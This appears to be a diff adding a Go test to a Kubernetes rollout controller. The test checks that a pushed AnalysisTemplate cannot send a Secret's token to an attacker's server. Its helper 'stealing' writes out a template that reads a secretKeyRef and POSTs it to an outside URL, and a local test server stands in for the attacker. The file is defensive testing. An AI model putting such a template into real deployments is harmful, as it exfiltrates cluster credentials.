@@ -1,0 +1,92 @@
+package main
+
+import (
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	corev1 "k8s.io/api/core/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+
+	"gitrollout.dev/gitrollout/rollout"
+)
+
+// stealing is an app whose release is measured by a request that carries a key of a Secret.
+func stealing(tag, secret, url string) map[string]string {
+	return with(judgedVersion(tag, url), map[string]string{"load.yaml": fmt.Sprintf(`apiVersion: gitrollout.dev/v1alpha1
+kind: AnalysisTemplate
+metadata: {name: load}
+spec:
+  args: [{name: token, valueFrom: {secretKeyRef: {name: %s, key: token}}}]
+  metrics:
+  - name: load
+    successCondition: result < 0.5
+    provider: {web: {url: %s, method: POST, body: "{{args.token}}", jsonPath: "{$.load}"}}
+`, secret, url)})
+}
+
+// TestATokenIsNotSent: whoever may push to an app's folder has no Secret sent to a server of theirs, neither out of
+// gitrollout's namespace nor out of the app's own, unless the Secret says that it is for that.
+func TestATokenIsNotSent(t *testing.T) {
+	var sent atomic.Int64
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		sent.Add(1)
+		fmt.Fprint(w, `{"load": 0.1}`)
+	}))
+	t.Cleanup(server.Close)
+	w := newLoopWorld(t, stealing("v1", "password", server.URL))
+	namespaces, secrets := w.kube.Kube.CoreV1().Namespaces(), w.kube.Kube.CoreV1().Secrets
+	_, err := namespaces.Create(t.Context(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: rollout.OwnNamespace}}, metav1.CreateOptions{})
+	if err != nil && !apierrors.IsAlreadyExists(err) {
+		t.Fatal(err)
+	}
+	for ns, name := range map[string]string{rollout.OwnNamespace: w.app + "-token", w.ns: "password"} {
+		secret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: name}, StringData: map[string]string{"token": "s3cr3t"}}
+		if _, err := secrets(ns).Create(t.Context(), secret, metav1.CreateOptions{}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	p := w.start()
+	first := w.repo.Head()
+	p.awaitHealthy(first)
+
+	// Out of gitrollout's namespace: two pushes, and no pod of the attacker's would ever run.
+	for _, tag := range []string{"v1", "v2"} {
+		theirs := stealing(tag, w.app+"-token", server.URL)
+		theirs["kustomization.yaml"] = "namespace: " + rollout.OwnNamespace + "\n" + theirs["kustomization.yaml"]
+		w.push("there, "+tag, theirs)
+		s := p.await("held", func(s rollout.State) bool { return s.Held != nil })
+		if s.Held.Reason != rollout.HeldForbidden || !strings.Contains(s.Held.Message, "which is gitrollout's own and no app's") {
+			t.Fatalf("held %+v", s.Held)
+		}
+		if err := p.passes(3); err != nil {
+			t.Error(err)
+		}
+		if s := w.state(); s.Held == nil || s.Source != first {
+			t.Fatalf("at %s, held %+v", s.Source, s.Held)
+		}
+	}
+
+	// Out of its own: nothing is sent, and the release is judged by the error, which says what to do.
+	w.push("here", stealing("v2", "password", server.URL))
+	s := p.await("it went back", func(s rollout.State) bool { return s.Phase == rollout.Degraded })
+	if len(s.Rejected) != 1 || !strings.Contains(s.Rejected[0].Reason, "kubectl -n "+w.ns+" label secret password gitrollout.dev/analysis=true") {
+		t.Errorf("rejected %+v", s.Rejected)
+	}
+	if n := sent.Load(); n > 0 {
+		t.Fatalf("%d requests reached the attacker's server", n)
+	}
+	label := []byte(`{"metadata": {"labels": {"gitrollout.dev/analysis": "true"}}}`)
+	if _, err := secrets(w.ns).Patch(t.Context(), "password", "application/merge-patch+json", label, metav1.PatchOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	w.push("labelled", stealing("v3", "password", server.URL))
+	p.await("measured", func(s rollout.State) bool { return s.Phase == rollout.Paused && s.Progress[0].Step == 2 })
+	if sent.Load() == 0 {
+		t.Error("a Secret that is for analyses is not used")
+	}
+}
